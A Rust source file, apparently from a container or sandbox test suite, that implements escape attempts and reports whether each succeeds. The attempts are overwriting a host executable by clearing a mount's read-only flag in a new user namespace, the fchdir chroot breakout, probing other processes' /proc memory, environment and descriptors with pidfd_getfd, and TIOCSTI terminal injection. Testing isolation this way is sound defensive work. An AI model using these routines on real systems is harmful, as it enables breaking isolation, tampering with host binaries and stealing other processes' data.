//! Attacks by a program in a container.

use std::fs::{self, File, OpenOptions};
use std::io::{BufRead as _, BufReader, Error, Write as _};
use std::os::fd::AsRawFd as _;
use std::path::Path;
use std::process::ExitCode;

use nix::errno::Errno;
use nix::sched::{CloneFlags, unshare};
use nix::sys::wait::{WaitStatus, waitpid};
use nix::unistd::ForkResult;

use crate::file_handle::FileHandle;

/// Attacks the executable of the first process whose `argv[0]` is `name`. Clears the read-only
/// attribute of its mount with the rights of a new user and mount namespace, and writes to it when
/// the process has ended. Prints the errno of each, or 0, and keeps running. The root of the mount
/// is the executable or its directory, whose handle is `directory`; it is empty if there is none.
pub fn take_exe(name: &str, directory: &str) -> ExitCode {
    let held = loop {
        if let Some(file) = executable_of(name) {
            break file;
        }
    };
    let mut root = None;
    if !directory.is_empty() {
        let handle = FileHandle::from_hex(directory);
        root = Some(handle.open_in_mount_of(&held).expect("the directory"));
    }
    let errnos = [Some(&held), root.as_ref()].map(|root| root.map_or(libc::EINVAL, clear_readonly));
    println!("mount_setattr: {errnos:?}");
    let opened = loop {
        let path = format!("/proc/self/fd/{}", held.as_raw_fd());
        match OpenOptions::new().write(true).open(path) {
            Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => {}
            opened => break opened.and_then(|mut file| file.write_all(b"#!")),
        }
    };
    let errno = opened.err().and_then(|error| error.raw_os_error());
    println!("open: {}", errno.unwrap_or(0));
    loop {
        std::thread::park();
    }
}

fn executable_of(name: &str) -> Option<File> {
    let processes = fs::read_dir("/proc").expect("/proc");
    processes.flatten().find_map(|entry| {
        let cmdline = fs::read(entry.path().join("cmdline")).ok()?;
        let first = cmdline.split(|&byte| byte == 0).next()?;
        (first == name.as_bytes()).then(|| File::open(entry.path().join("exe")).ok())?
    })
}

/// mount_setattr(2) by a child that owns a mount namespace. Returns its errno, or 0.
fn clear_readonly(file: &File) -> i32 {
    // SAFETY: the program is single-threaded, and the child makes system calls only.
    match unsafe { nix::unistd::fork() }.expect("fork") {
        ForkResult::Child => {
            let attack = || {
                unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS)?;
                crate::host::change_readonly(file, false)
            };
            let errno = attack().err().unwrap_or(Errno::from_raw(0));
            // SAFETY: ends the child without running destructors of the parent.
            unsafe { libc::_exit(errno as i32) }
        }
        ForkResult::Parent { child } => match waitpid(child, None) {
            Ok(WaitStatus::Exited(_, errno)) => errno,
            other => panic!("{other:?}"),
        },
    }
}

/// Climbs out of chroot(2) as its manual page describes, and looks for a file of the host there.
pub fn leave_chroot(file: &str) -> ExitCode {
    let root = File::open("/").expect("the root");
    nix::unistd::chroot("/tmp").expect("chroot");
    nix::unistd::fchdir(&root).expect("fchdir");
    for _ in 0..64 {
        nix::unistd::chdir("..").expect("chdir");
    }
    let found = fs::metadata(file.trim_start_matches('/')).is_ok();
    println!("{}", if found { "outside" } else { "inside" });
    ExitCode::SUCCESS
}

/// For each line from `fifo`, tries to use every other process as a way to its files, and prints a
/// line: each process with what was possible.
pub fn look_at_others(fifo: &str) -> ExitCode {
    let fifo = OpenOptions::new().read(true).write(true).open(fifo);
    for _ in BufReader::new(fifo.expect("the FIFO")).lines() {
        let processes = fs::read_dir("/proc").expect("/proc").flatten();
        let pids = processes.filter_map(|entry| entry.file_name().to_str()?.parse::<u32>().ok());
        let others = pids.filter(|&pid| pid != std::process::id());
        let found = others.map(|pid| format!("{pid}: {}", open_ways(pid).join(" ")));
        println!("{}", found.collect::<Vec<_>>().join(", "));
    }
    ExitCode::SUCCESS
}

/// More numbers than a process of these tests has open files.
const NUMBERS: std::ops::Range<u32> = 0..64;

/// What the kernel lets this process do to another one, as far as it leads to files or memory.
/// `pidfd_getfd` needs the same permission as ptrace(2), which only one tracer at a time can use.
fn open_ways(pid: u32) -> Vec<&'static str> {
    let directory = Path::new("/proc").join(pid.to_string());
    let links = ["root", "cwd", "exe"];
    let files = ["environ", "maps", "mem"];
    let links = links.map(|name| (name, fs::read_link(directory.join(name)).is_ok()));
    let files = files.map(|name| (name, File::open(directory.join(name)).is_ok()));
    let fd = |number: u32| directory.join("fd").join(number.to_string());
    // SAFETY: takes no pointers. The descriptor is not used any more when the process ends.
    let pidfd = unsafe { libc::syscall(libc::SYS_pidfd_open, pid, 0) };
    // SAFETY: takes no pointers.
    let taken =
        |number: u32| unsafe { libc::syscall(libc::SYS_pidfd_getfd, pidfd, number, 0) } >= 0;
    let descriptors = [
        (
            "fd",
            NUMBERS
                .clone()
                .any(|number| fs::read_link(fd(number)).is_ok()),
        ),
        ("pidfd_getfd", NUMBERS.clone().any(taken)),
    ];
    let all = links.into_iter().chain(files).chain(descriptors);
    all.filter_map(|(name, open)| open.then_some(name))
        .collect()
}

/// Types a character on the terminal that is standard input, and opens the controlling terminal.
/// Prints the errno of each, or 0.
pub fn type_on_stdin() -> ExitCode {
    // SAFETY: the kernel reads one character.
    let typed = unsafe { libc::ioctl(0, libc::TIOCSTI, c"x".as_ptr()) };
    let typed = if typed == 0 {
        None
    } else {
        Error::last_os_error().raw_os_error()
    };
    let opened = File::open("/dev/tty")
        .err()
        .and_then(|error| error.raw_os_error());
    println!("type {}, open {}", typed.unwrap_or(0), opened.unwrap_or(0));
    ExitCode::SUCCESS
}
